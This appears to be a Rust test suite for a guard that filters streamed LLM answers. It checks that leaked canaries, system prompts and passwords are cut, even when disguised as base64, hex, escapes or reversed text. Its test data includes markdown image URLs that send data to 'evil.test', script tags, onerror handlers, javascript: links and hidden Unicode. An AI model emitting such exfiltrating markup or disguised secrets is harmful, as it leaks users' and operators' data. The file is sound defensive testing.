//! What a model writes: leaks are cut, markup is taken out, and nothing else moves, however the stream is cut.

use super::{CANARY, SYSTEM, denied, found, guard, guard_in};
use crate::bodies::*;
use crate::check::*;
use crate::gzip::gzip;
use crate::message::{Framing, Request};
use crate::scenario::{Scenario, Setup, case};
use crate::script::{Script, Step};
use std::ops::Range;

/// All of this file.
pub fn cases() -> Vec<Scenario> {
    [
        canaries(),
        disguises(),
        prompts(),
        markup(),
        leftovers(),
        at_every_split(),
        holds(),
        told(),
        framings(),
        unreadable(),
    ]
    .concat()
}

fn watched() -> Setup {
    guard(&format!(r#"{{"answers": {{"canaries": ["{CANARY}"]}}}}"#))
}

/// A chat of a system prompt and a user, streamed.
fn told_by(system: &str, user: &str) -> Request {
    chat_json(format!(
        r#"{{"model":"m-1","stream":true,"messages":[{{"role":"system","content":"{system}"}},{{"role":"user","content":"{user}"}}]}}"#
    ))
}

/// A model that says this and would go on.
fn runs_on(texts: &[&str]) -> Script {
    let said: String = texts.iter().map(|text| delta(text)).collect();
    sse()
        .data(delta("good "))
        .until("good")
        .data(said)
        .step(Step::Hang)
}

fn is_cut(rule: &str) -> [Check; 7] {
    [
        client_head(200),
        client_sees_break(),
        client_body_has("good "),
        client_body_has(format!(
            "data: {{\"error\":{{\"message\":\"the answer was refused: {rule} in "
        )),
        client_body_lacks("[DONE]"),
        upstream_is_cancelled(),
        denied("prompt_guard"),
    ]
}

/// A canary between any two deltas.
fn canaries() -> Vec<Scenario> {
    let split = |at: usize| {
        let (first, rest) = CANARY.split_at(at);
        case(format!("guard: a canary of which a delta has {at} letters"))
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(runs_on(&[&format!("so {first}"), &format!("{rest} it is")]))
            .uncut()
            .then_all(is_cut("canary"))
            .then_all([
                client_body_lacks("it is"),
                found("canary", "output", "response", "deny", 1),
            ])
    };
    let letters: Vec<String> = CANARY.chars().map(String::from).collect();
    let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
    let mut all: Vec<Scenario> = (0..=CANARY.len()).map(split).collect();
    all.extend([
        case("guard: a canary letter by letter")
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(runs_on(&letters))
            .then_all(is_cut("canary")),
        case("guard: a canary in the last chunk of a stream")
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(sse_of(&["good ", CANARY]))
            .then_all([
                client_head(200),
                client_body_has("canary in output"),
                client_body_lacks(CANARY),
            ]),
        case("guard: a canary in one of two choices, interleaved")
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(
                sse()
                    .data(choice(0, "good ") + &choice(1, "hx7-"))
                    .until("good")
                    .data(choice(0, "fern-") + &choice(1, "fern-") + &choice(0, "42") + &choice(1, "42"))
                    .step(Step::Hang),
            )
            .then_all(is_cut("canary")),
        case("guard: halves of a canary in two choices are none")
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(
                sse().data(choice(0, "hx7-") + &choice(1, "fern-42") + &choice(0, "ok") + &finish() + DONE),
            )
            .then_all([client_gets(200), client_body_untouched()]),
        case("guard: a canary in reasoning")
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(
                sse()
                    .data(delta("good "))
                    .until("good")
                    .data(delta("").replace(r#""content":"""#, r#""reasoning_content":"hx7-fern-42""#))
                    .step(Step::Hang),
            )
            .then_all(is_cut("canary")),
        case("guard: a canary that the client said is its own")
            .given(watched())
            .request(chat_stream(CANARY))
            .upstream(sse_of(&["you said ", CANARY]))
            .then_all([client_gets(200), client_body_untouched()]),
    ]);
    all
}

/// Readings of a secret that are the same secret.
fn disguises() -> Vec<Scenario> {
    let reads = |name: &str, said: &[&str]| {
        case(format!("guard: a canary {name}"))
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(runs_on(said))
            .then_all(is_cut("canary"))
    };
    vec![
        reads("in capitals", &["HX7-", "FERN-42"]),
        reads("spaced out", &["h x 7 f e r", " n 4 2"]),
        reads("in escapes of JSON", &[r"hx7-\u0066", r"er\u006e-42"]),
        reads("in base64", &["aHg3LWZl", "cm4tNDI="]),
        reads("in hexadecimal", &["6878372d66", "65726e2d3432"]),
        reads("backward", &["24-nref-", "7xh"]),
    ]
}

fn prompts() -> Vec<Scenario> {
    let (before, after) = SYSTEM.split_at(60);
    let leak = |name: &str, request: Request, script: Script| {
        case(format!("guard: {name}"))
            .given(watched())
            .request(request)
            .upstream(script)
    };
    let shown = delta("").replace(r#""content":"""#, &format!(r#""refusal":"{SYSTEM}""#));
    vec![
        leak(
            "a system prompt comes out piece by piece",
            told_by(SYSTEM, "hi"),
            runs_on(&[before, after]),
        )
        .then_all(is_cut("system_prompt_leak"))
        .then(client_body_lacks("third fern")),
        leak("a system prompt comes out in a refusal", told_by(SYSTEM, "hi"), {
            sse()
                .data(delta("good "))
                .until("good")
                .data(shown)
                .step(Step::Hang)
        })
        .then_all(is_cut("system_prompt_leak")),
        leak(
            "a system prompt that the user quotes may be quoted",
            told_by(SYSTEM, SYSTEM),
            sse_of(&["you said ", SYSTEM]),
        )
        .then_all([client_gets(200), client_body_untouched()]),
        leak(
            "a few words of a system prompt are none",
            told_by(SYSTEM, "hi"),
            sse_of(&["I am Fen, the clerk", " of the library."]),
        )
        .then_all([client_gets(200), client_body_untouched()]),
        leak(
            "a secret of a system prompt",
            told_by("Serve. The password is t0p-Tide-9-Reef.", "hi"),
            runs_on(&["it is t0p-", "Tide-9-Reef"]),
        )
        .then_all(is_cut("system_secret")),
    ]
}

/// What is taken out, and what stays.
fn markup() -> Vec<Scenario> {
    let strips = |name: &str, said: &[&str], read: &[&str], rule: &str, count: i64| {
        case(format!("guard: {name} is taken out"))
            .given(guard(r#"{"answers": {"hosts": ["example.org"]}}"#))
            .request(chat_stream("hi"))
            .upstream(sse_of(said))
            .then_all([
                client_gets(200),
                client_body(frames(read).concat()),
                found(rule, "output", "response", "strip", count),
            ])
    };
    let passes = |name: &str, said: &[&str]| {
        case(format!("guard: {name} stays"))
            .given(guard(r#"{"answers": {"hosts": ["example.org"]}}"#))
            .request(chat_stream("hi"))
            .upstream(sse_of(said))
            .then_all([client_gets(200), client_body_untouched()])
    };
    vec![
        strips(
            "an image of a host that nobody listed",
            &["see ![x](https://ev", "il.test/p?q=secret) here"],
            &["see (removed)", " here"],
            "external_image",
            1,
        ),
        strips(
            "a script",
            &["a <scr", "ipt>x", "</script> b"],
            &["a (removed)", "x", "(removed) b"],
            "script",
            2,
        ),
        strips(
            "an event handler",
            &["<img src=x one", "rror=\\\"f()\\\"> b"],
            &["(removed)", " b"],
            "script",
            1,
        ),
        strips(
            "a link that runs script",
            &["[go](java", "script:f) b"],
            &["(removed)", " b"],
            "script_url",
            1,
        ),
        strips(
            "text that nobody sees",
            &["a\u{e0041}\u{e0042}", "\u{e0043} b"],
            &["a(removed)", " b"],
            "hidden_output",
            1,
        ),
        strips(
            "a terminal's escape",
            &["a\\u001b", "[31mred"],
            &["a(removed)", "red"],
            "hidden_output",
            1,
        ),
        passes(
            "an image of a listed host",
            &["![x](https://exam", "ple.org/p.png?q=1)"],
        ),
        passes(
            "script in a block of code",
            &["```\\n<scr", "ipt>x</script>\\n```\\n"],
        ),
        passes("a link without data", &["[a](https://other", ".test/page)"]),
        passes("mathematics", &["if a <b and c> d then ", "a[i] (see [1])"]),
        case("guard: markup of a whole answer is taken out")
            .given(guard("{}"))
            .request(chat("hi"))
            .upstream(json(200, completion("see ![x](https://evil.test/p?q=1) here")))
            .then_all([client_gets(200), client_body(completion("see (removed) here"))]),
        case("guard: markup in the answer of one's own policy ends it")
            .given(guard(
                r#"{"policies": [{"rules": ["external_image"], "direction": "response", "action": "cut"}]}"#,
            ))
            .request(chat_stream("hi"))
            .upstream(runs_on(&["see ![x](https://evil", ".test/p?q=1) here"]))
            .then_all(is_cut("external_image"))
            .then(client_body_lacks("evil")),
    ]
}

/// What stands around something that is taken out must not be the next attack.
fn leftovers() -> Vec<Scenario> {
    let clean = |name: &str, said: &str, no: &str| {
        case(format!("guard: what is taken out leaves no {name} behind"))
            .given(guard("{}"))
            .request(chat("hi"))
            .upstream(json(200, completion(said)))
            .then_all([client_gets(200), client_body_lacks(no)])
    };
    vec![
        clean(
            "image",
            "!![a](https://evil.test/1.png)[b](https://evil.test/2.png)",
            "![b](https://evil.test",
        ),
        clean("script", "<<script>script>f()", "<script>"),
        clean("script of halves", "<scr<script>ipt>f()", "\"<script>"),
        clean(
            "script that hid its name",
            "<scr\u{200b}\u{200b}\u{200b}\u{200b}ipt>f()",
            "<script>",
        ),
        clean(
            "image that hid its bracket",
            r"![a]\u001b[0m(https://evil.test/1.png)",
            "![a](https://evil.test",
        ),
    ]
}

/// Each choice has the text cut at another place.
fn at_every_split() -> Vec<Scenario> {
    const TEXT: &str = "Oh ![x](https://evil.test/?q=1) a<b ok";
    let out = TEXT.find('!').unwrap_or(0)..TEXT.find(" a<b").unwrap_or(0);
    let said = |at: usize, first: &str, rest: &str| [choice(at as u32, first), choice(at as u32, rest)];
    let splits = 1..TEXT.len();
    let halves: Vec<[String; 2]> = splits
        .clone()
        .map(|at| said(at, &TEXT[..at], &TEXT[at..]))
        .collect();
    let read: Vec<[String; 2]> = splits
        .map(|at| {
            said(
                at,
                &without(0..at, &out, TEXT),
                &without(at..TEXT.len(), &out, TEXT),
            )
        })
        .collect();
    let whole = |halves: &[[String; 2]]| halves.concat().concat() + DONE;
    let interleaved = |halves: &[[String; 2]]| {
        let (first, rest): (String, String) = (
            halves.iter().map(|half| half[0].as_str()).collect(),
            halves.iter().map(|half| half[1].as_str()).collect(),
        );
        first + &rest + DONE
    };
    let row = |name: &str, script: String, read: String| {
        case(format!("guard: an image is taken out at every split, {name}"))
            .given(guard("{}"))
            .request(chat_stream("hi"))
            .upstream(sse().data(script))
            .then_all([client_gets(200), client_body(read)])
    };
    vec![
        row("one choice after the other", whole(&halves), whole(&read)),
        row("all choices at once", interleaved(&halves), interleaved(&read)),
    ]
}

/// A part of a text without a range of the whole, whose stand-in goes where it begins.
fn without(part: Range<usize>, out: &Range<usize>, text: &str) -> String {
    let one = |at: usize| match at {
        at if at == out.start => "(removed)",
        at if out.contains(&at) => "",
        at => &text[at..=at],
    };
    part.map(one).collect()
}

/// What may become a finding waits, and nothing else does.
fn holds() -> Vec<Scenario> {
    vec![
        case("guard: plain text of a stream does not wait")
            .given(watched())
            .request(told_by(SYSTEM, "hi"))
            .upstream(
                sse()
                    .data(delta("Hello"))
                    .until("Hello")
                    .data(delta(" a < b, [1] and *that*. "))
                    .until("that")
                    .data(delta("Bye") + &finish())
                    .until("Bye")
                    .data(DONE),
            )
            .then_all([client_gets(200), client_body_untouched()]),
        case("guard: what may be an image waits for its end")
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(
                sse()
                    .data(delta("a ![x](https://"))
                    .step(Step::Wait(20))
                    .step(Step::Unseen(b"![x]".to_vec()))
                    .data(delta("evil.test/p?q=1)") + &delta(" it is"))
                    .until("it is")
                    .data(finish() + DONE),
            )
            .uncut()
            .then_all([client_gets(200), client_body_has("a "), client_body_lacks("evil")]),
        case("guard: a bracket that never closes comes with the end")
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(sse_of(&["see ![x", " and more"]))
            .then_all([client_gets(200), client_body_untouched()]),
        case("guard: a comment overtakes what waits")
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(
                sse()
                    .data(delta("![x](https://evil"))
                    .data(": ping\n\n")
                    .until("ping")
                    .data(delta(".test/p?q=1)") + &finish() + DONE),
            )
            .then_all([client_gets(200), client_body_lacks("evil")]),
    ]
}

/// A finding that is told goes into the head of an answer that comes whole, and behind a stream.
fn told() -> Vec<Scenario> {
    let told = || guard(r#"{"policies": [{"rules": ["external_link"], "action": "annotate"}]}"#);
    let link = "[a](https://other.test/?q=TXkgc2VjcmV0IHBhc3N3b3JkIGlzIGhlbGxvIHdvcmxk)";
    vec![
        case("guard: a link is told in the head of an answer")
            .given(told())
            .request(chat("hi"))
            .upstream(json(200, completion(link)))
            .then_all([
                client_gets(200),
                client_header("x-penstock-guard", "external_link;score=100"),
                client_body_untouched(),
            ]),
        case("guard: a link is told behind a stream")
            .given(told())
            .request(chat_stream("hi"))
            .upstream(sse_of(&[link]).trailer("x-end", "yes"))
            .then_all([
                client_gets(200),
                client_body_untouched(),
                client_trailer("x-end", "yes"),
                client_trailer("x-penstock-guard", "external_link;score=100"),
            ]),
        case("guard: a verdict in filter state has no text")
            .given(told())
            .request(chat("hi"))
            .upstream(json(200, completion(link)))
            .then_all([
                client_gets(200),
                logged(
                    "penstock.guard",
                    r#"{"action":"annotate","findings":[{"rule":"external_link","direction":"response","scope":"output","message":0,"score":100,"action":"annotate"}]}"#,
                ),
            ]),
    ]
}

fn framings() -> Vec<Scenario> {
    let image = "see ![x](https://evil.test/p?q=1) here";
    let head = || sse().header("content-encoding", "gzip");
    let all = |name: &str, request: Request, script: Script, read: String| {
        case(format!("guard: an image is taken out, {name}"))
            .given(guard("{}"))
            .request(request)
            .upstream(script)
            .then_all([client_gets(200), client_body(read)])
    };
    vec![
        all(
            "chunks",
            chat("hi"),
            json(200, completion(image)).framed(Framing::Chunked),
            completion("see (removed) here"),
        ),
        all(
            "to the end of a connection",
            chat("hi"),
            json(200, completion(image)).framed(Framing::Close),
            completion("see (removed) here"),
        ),
        all(
            "with trailers",
            chat_stream("hi"),
            sse_of(&[image]).trailer("x-end", "yes"),
            frames(&["see (removed) here"]).concat(),
        )
        .then(client_trailer("x-end", "yes")),
        all(
            "in gzip",
            chat_stream("hi"),
            head().data(gzip(frames(&[image]).concat().as_bytes())),
            frames(&["see (removed) here"]).concat(),
        )
        .then(client_header_absent("content-encoding")),
        case("guard: a canary in a gzip stream")
            .given(watched())
            .request(chat_stream("hi"))
            .upstream(head().data(gzip(frames(&["good ", CANARY]).concat().as_bytes())).step(Step::Hang))
            .then_all([client_head(200), client_body_has("canary in output"), client_body_lacks(CANARY), upstream_is_cancelled()]),
        case("guard: an error of the upstream passes")
            .given(watched())
            .request(chat("hi"))
            .upstream(json(429, r#"{"error":{"message":"slow down","type":"rate_limit_error","code":null}}"#))
            .then_all([client_gets(429), client_body_untouched()]),
        case("guard: an error of the upstream that gives the system prompt away does not")
            .given(watched())
            .request(told_by(SYSTEM, "hi"))
            .upstream(json(
                400,
                format!(r#"{{"error":{{"message":"too long: {SYSTEM}","type":"invalid_request_error","code":null}}}}"#),
            ))
            .then_all([client_head(400), client_body_lacks("third fern")]),
        case("guard: on_cut drain ends the stream well")
            .given(guard_in(
                r#"{"on_cut": "drain"}"#,
                &format!(r#"{{"answers": {{"canaries": ["{CANARY}"]}}}}"#),
            ))
            .request(chat_stream("hi"))
            .upstream(sse_of(&["good ", CANARY, "more"]))
            .then_all([
                client_gets(200),
                client_body_has("canary in output"),
                client_body_lacks(CANARY),
                client_body_lacks("more"),
            ]),
    ]
}

/// An answer that cannot be read is refused, or passes where the guard fails open.
fn unreadable() -> Vec<Scenario> {
    let brotli = || {
        Script::new(200)
            .header("content-type", "application/json")
            .header("content-encoding", "br")
            .data("\u{b}x")
    };
    let row = |name: &str, on_failure: &str, request: Request, script: Script| {
        case(format!("guard: {name}, {on_failure}"))
            .given(guard(&format!(r#"{{"on_failure": "{on_failure}"}}"#)))
            .request(request)
            .upstream(script)
    };
    let broken = || {
        sse()
            .data(delta("good"))
            .until("good")
            .data("data: {\"choices\":[}\n\n")
    };
    vec![
        row("an answer in brotli", "closed", chat("hi"), brotli())
            .then_all([client_gets(502), client_body_has("unsupported_encoding")]),
        row("an answer in brotli", "open", chat("hi"), brotli())
            .then_all([client_gets(200), client_body_untouched()]),
        row(
            "a stream that is no JSON any more",
            "closed",
            chat_stream("hi"),
            broken().step(Step::Hang),
        )
        .then_all([
            client_head(200),
            client_sees_break(),
            client_body_has("invalid_json"),
            upstream_is_cancelled(),
        ]),
        row(
            "a stream that is no JSON any more",
            "open",
            chat_stream("hi"),
            broken().data(finish() + DONE),
        )
        .then_all([client_gets(200), client_body_untouched()]),
        row(
            "an upstream that breaks off while text waits",
            "closed",
            chat_stream("hi"),
            sse()
                .data(delta("good"))
                .until("good")
                .data(delta("![x](https://ev"))
                .step(Step::Reset),
        )
        .then_all([client_head(200), client_sees_break(), client_body_has("good")]),
    ]
}
